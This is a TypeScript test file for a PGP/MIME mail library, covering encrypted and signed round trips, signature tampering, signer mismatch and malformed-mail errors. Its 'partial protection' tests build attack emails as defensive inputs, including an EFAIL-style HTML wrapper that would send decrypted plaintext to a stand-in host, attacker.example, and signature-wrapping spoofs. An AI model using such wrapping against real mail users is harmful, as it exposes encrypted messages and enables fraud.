import fc from 'fast-check';
import type { PrivateKey } from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { fromUtf8 } from '../encoding.ts';
import { isNoiseError } from '../errors.ts';
import { encryptMessage } from '../pgp/encrypt.ts';
import { type GeneratedKey, generateKey, unlockPrivateKey } from '../pgp/keys.ts';
import {
  buildEncryptedMime,
  buildInnerEntity,
  buildSignedMime,
  HIDDEN_SUBJECT,
  type MailContent,
} from '../pgp/mime-build.ts';
import { contentTypeOf, splitEntity, splitMultipart } from '../pgp/mime-slice.ts';
import { signCleartext } from '../pgp/signatures.ts';
import { readMail } from './test/mail-view.ts';

let alice: GeneratedKey;
let bob: GeneratedKey;
let mallory: GeneratedKey;
let aliceKey: PrivateKey;
let bobKey: PrivateKey;
let malloryKey: PrivateKey;

beforeAll(async () => {
  [alice, bob, mallory] = await Promise.all([
    generateKey({ userIds: [{ name: 'Alice', email: 'alice@example.org' }], passphrase: 'a' }),
    generateKey({ userIds: [{ name: 'Bob', email: 'bob@example.net' }], passphrase: 'b' }),
    generateKey({ userIds: [{ email: 'mallory@evil.example' }], passphrase: 'm' }),
  ]);
  [aliceKey, bobKey, malloryKey] = await Promise.all([
    unlockPrivateKey(alice.privateKey, 'a'),
    unlockPrivateKey(bob.privateKey, 'b'),
    unlockPrivateKey(mallory.privateKey, 'm'),
  ]);
});

const content = (): MailContent => ({
  from: { name: 'Alice Ä.', address: 'alice@example.org' },
  to: [{ name: 'Bob', address: 'bob@example.net' }],
  cc: [{ address: 'carol@example.com' }],
  subject: 'Quarterly numbers — confidential',
  date: new Date('2026-11-20T10:00:00Z'),
  messageId: '<q3@example.org>',
  text: 'Hi Bob,\nthe numbers are attached.\n',
  html: '<p>Hi Bob,<br>the numbers are attached.</p>',
  attachments: [
    { filename: 'q3.csv', contentType: 'text/csv', data: new Uint8Array([0x61, 0x2c, 0x62, 0x0a, 0xff]) },
  ],
});

describe('multipart/encrypted', () => {
  it('round-trips with protected subject, HTML and attachments', async () => {
    const eml = await buildEncryptedMime(content(), { recipients: [bob.publicKey], signingKey: aliceKey });
    const top = splitEntity(new TextEncoder().encode(eml));
    expect(contentTypeOf(top).type).toBe('multipart/encrypted');
    expect(contentTypeOf(top).params.get('protocol')).toBe('application/pgp-encrypted');
    expect(top.headers.get('subject')).toBe(HIDDEN_SUBJECT);
    expect(eml).not.toContain('Quarterly');
    const parts = splitMultipart(top.body, contentTypeOf(top).params.get('boundary')!);
    expect(parts).toHaveLength(2);
    expect(fromUtf8(parts[0]!)).toContain('Version: 1');
    expect(eml.split('\r\n').every((l) => l.length <= 78)).toBe(true);

    const mail = await readMail(eml, { decryptionKeys: [bobKey], verificationKeys: [alice.publicKey] });
    expect(mail.headers.subject).toBe('Quarterly numbers — confidential');
    expect(mail.headers.from).toEqual({ name: 'Alice Ä.', address: 'alice@example.org' });
    expect(mail.headers.cc).toEqual([{ address: 'carol@example.com' }]);
    expect(mail.text).toBe('Hi Bob,\nthe numbers are attached.\n');
    expect(mail.html).toContain('<p>Hi Bob,');
    expect(mail.attachments).toHaveLength(1);
    expect(mail.attachments[0]).toMatchObject({ filename: 'q3.csv', contentType: 'text/csv' });
    expect(mail.attachments[0]!.data).toEqual(new Uint8Array([0x61, 0x2c, 0x62, 0x0a, 0xff]));
    expect(mail.verdict).toMatchObject({
      encrypted: true,
      integrityProtected: true,
      signedBySender: true,
      subjectProtected: true,
      partial: { encrypted: false, signed: false },
    });
  });

  it('the sender can read their own copy; a stranger cannot', async () => {
    const eml = await buildEncryptedMime(content(), { recipients: [bob.publicKey], signingKey: aliceKey });
    expect((await readMail(eml, { decryptionKeys: [aliceKey] })).text).toContain('numbers');
    const err = await readMail(eml, { decryptionKeys: [malloryKey] }).catch((e: unknown) => e);
    expect(isNoiseError(err, 'not_for_me')).toBe(true);
  });
});

describe('multipart/signed', () => {
  it('verifies a valid signature over the exact first part', async () => {
    const eml = await buildSignedMime(content(), { signingKey: aliceKey });
    expect(eml).toMatch(/micalg=pgp-sha(256|384|512);/);
    const mail = await readMail(eml, { decryptionKeys: [], verificationKeys: [alice.publicKey] });
    expect(mail.verdict).toMatchObject({
      encrypted: false,
      signedBySender: true,
      partial: { encrypted: false, signed: false },
    });
    expect(mail.verdict.signatures[0]).toMatchObject({
      status: 'valid',
      signerFingerprint: alice.fingerprint,
    });
    expect(mail.text).toBe('Hi Bob,\nthe numbers are attached.\n');
    expect(mail.attachments.map((a) => a.filename)).toEqual(['q3.csv']);
  });

  it('reports an invalid signature when the signed part was changed', async () => {
    const eml = await buildSignedMime(content(), { signingKey: aliceKey });
    // Change one base64 character of the signed text body.
    const tampered = eml.replace(
      /(Content-Type: text\/plain[\s\S]*?\r\n\r\n)(.)/,
      (_m, h: string, c: string) => h + (c === 'A' ? 'B' : 'A'),
    );
    expect(tampered).not.toBe(eml);
    const mail = await readMail(tampered, { decryptionKeys: [], verificationKeys: [alice.publicKey] });
    expect(mail.verdict.signatures[0]!.status).toBe('invalid');
    expect(mail.verdict.signedBySender).toBe(false);
  });

  it('flags a signer who is not the From address', async () => {
    const eml = await buildSignedMime(content(), { signingKey: malloryKey });
    const mail = await readMail(eml, {
      decryptionKeys: [],
      verificationKeys: [mallory.publicKey, alice.publicKey],
    });
    expect(mail.verdict.signatures[0]).toMatchObject({ status: 'valid', signerMatchesFrom: false });
    expect(mail.verdict.signedBySender).toBe(false);
  });
});

describe('partial protection ("Johnny, you are fired" wrapping)', () => {
  it('flags a genuinely signed part wrapped in multipart/mixed next to unsigned text', async () => {
    const signed = await buildSignedMime(content(), { signingKey: aliceKey });
    const signedEntity = signed.slice(signed.indexOf('Content-Type: multipart/signed'));
    const eml = [
      'From: Alice <alice@example.org>',
      'To: bob@example.net',
      'Subject: You are fired',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="wrap"',
      '',
      '--wrap',
      'Content-Type: text/plain',
      '',
      'Johnny, you are fired.',
      '--wrap',
      signedEntity.replace(/\r\n$/, ''),
      '--wrap--',
      '',
    ].join('\r\n');
    const mail = await readMail(eml, { decryptionKeys: [], verificationKeys: [alice.publicKey] });
    expect(mail.verdict.signatures[0]!.status).toBe('valid');
    expect(mail.verdict.partial).toEqual({ encrypted: false, signed: true });
    expect(mail.text).toContain('Johnny, you are fired.');
    expect(mail.headers.subject).toBe('You are fired');
  });

  it("EFAIL direct exfiltration wrapping: the plaintext never lands in the attacker's HTML", async () => {
    const encrypted = await buildEncryptedMime(content(), {
      recipients: [bob.publicKey],
      signingKey: aliceKey,
    });
    const encryptedEntity = encrypted.slice(encrypted.indexOf('Content-Type: multipart/encrypted'));
    const eml = [
      'From: Alice <alice@example.org>',
      'To: bob@example.net',
      'Subject: hi',
      'Content-Type: multipart/mixed; boundary="efail"',
      '',
      '--efail',
      'Content-Type: text/html',
      '',
      '<img src="http://attacker.example/?',
      '--efail',
      encryptedEntity.replace(/\r\n$/, ''),
      '--efail',
      'Content-Type: text/html',
      '',
      '">',
      '--efail--',
      '',
    ].join('\r\n');
    const mail = await readMail(eml, { decryptionKeys: [bobKey], verificationKeys: [alice.publicKey] });
    expect(mail.verdict.partial.encrypted).toBe(true);
    expect(mail.verdict.subjectProtected).toBe(false);
    expect(mail.html ?? '').not.toContain('numbers are attached');
    expect(mail.text).toContain('the numbers are attached');
  });

  it('flags inline armor surrounded by other text, and not a lone block', async () => {
    const armored = await encryptMessage('the real message', {
      recipients: [bob.publicKey],
      signingKey: aliceKey,
    });
    const wrap = (body: string) =>
      [
        'From: alice@example.org',
        'To: bob@example.net',
        'Subject: hi',
        'Content-Type: text/plain; charset=utf-8',
        '',
        body,
      ].join('\r\n');
    const alone = await readMail(wrap(armored), {
      decryptionKeys: [bobKey],
      verificationKeys: [alice.publicKey],
    });
    expect(alone.text.trim()).toBe('the real message');
    expect(alone.verdict).toMatchObject({
      encrypted: true,
      signedBySender: true,
      partial: { encrypted: false, signed: false },
    });

    const around = await readMail(wrap(`Please wire the money today.\r\n\r\n${armored}`), {
      decryptionKeys: [bobKey],
      verificationKeys: [alice.publicKey],
    });
    expect(around.text).toContain('Please wire the money today.');
    expect(around.text).toContain('the real message');
    expect(around.verdict.partial).toEqual({ encrypted: true, signed: true });

    const clear = await signCleartext('signed line', aliceKey);
    const mixed = await readMail(wrap(`unsigned preface\r\n${clear}`), {
      decryptionKeys: [],
      verificationKeys: [alice.publicKey],
    });
    expect(mixed.verdict.signatures[0]!.status).toBe('valid');
    expect(mixed.verdict.partial.signed).toBe(true);
  });
});

describe('round trips (property)', () => {
  const printable = fc
    .string({ unit: 'grapheme', minLength: 1, maxLength: 80 })
    .filter((t) => !/[\r\n]/.test(t) && t.trim() === t && t !== '');
  const body = fc.string({ unit: 'grapheme', maxLength: 300 }).map((t) => t.replace(/\r\n?/g, '\n'));

  it('random subjects, bodies, names and attachments survive encrypted and signed PGP/MIME', async () => {
    await fc.assert(
      fc.asyncProperty(
        printable,
        body,
        printable,
        fc.uint8Array({ maxLength: 500 }),
        fc.boolean(),
        async (subject, text, name, data, sign) => {
          const c: MailContent = {
            from: { name, address: 'alice@example.org' },
            to: [{ address: 'bob@example.net' }],
            subject,
            text,
            attachments: [{ filename: 'blob.bin', contentType: 'application/octet-stream', data }],
          };
          const eml = sign
            ? await buildSignedMime(c, { signingKey: aliceKey })
            : await buildEncryptedMime(c, { recipients: [bob.publicKey], signingKey: aliceKey });
          const mail = await readMail(eml, { decryptionKeys: [bobKey], verificationKeys: [alice.publicKey] });
          expect(mail.headers.subject).toBe(subject);
          expect(mail.headers.from?.address).toBe('alice@example.org');
          expect(mail.text).toBe(text);
          expect(mail.attachments).toHaveLength(1);
          expect(mail.attachments[0]!.data).toEqual(data);
          expect(mail.verdict.signedBySender).toBe(true);
          expect(mail.verdict.encrypted).toBe(!sign);
        },
      ),
      { numRuns: 20 },
    );
  });
});

describe('bad mail', () => {
  it('gives NoiseErrors for broken PGP/MIME, never a crash or partial content', async () => {
    const head = 'From: a@x.example\r\nTo: b@x.example\r\nSubject: s\r\n';
    const oneEncPart = `${head}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\nVersion: 1\r\n--b--\r\n`;
    expect(
      isNoiseError(
        await readMail(oneEncPart, { decryptionKeys: [bobKey] }).catch((e: unknown) => e),
        'malformed',
      ),
    ).toBe(true);
    const badArmor = `${head}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n\r\nVersion: 1\r\n--b\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nzzzz\r\n-----END PGP MESSAGE-----\r\n--b--\r\n`;
    expect(
      isNoiseError(
        await readMail(badArmor, { decryptionKeys: [bobKey] }).catch((e: unknown) => e),
        'malformed',
      ),
    ).toBe(true);
    const badSig = `${head}Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n--b\r\n\r\n\xff\xfe garbage\r\n--b--\r\n`;
    expect(
      isNoiseError(await readMail(badSig, { decryptionKeys: [] }).catch((e: unknown) => e), 'malformed'),
    ).toBe(true);
  });
});

describe('inner entity', () => {
  it('marks protected headers and stays 7-bit', () => {
    const inner = buildInnerEntity(content());
    expect(inner).toMatch(/^Content-Type: multipart\/mixed; boundary=\S+; protected-headers="v1"$/m);
    expect([...inner].every((c) => c.charCodeAt(0) < 128)).toBe(true);
    expect(inner.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });
});
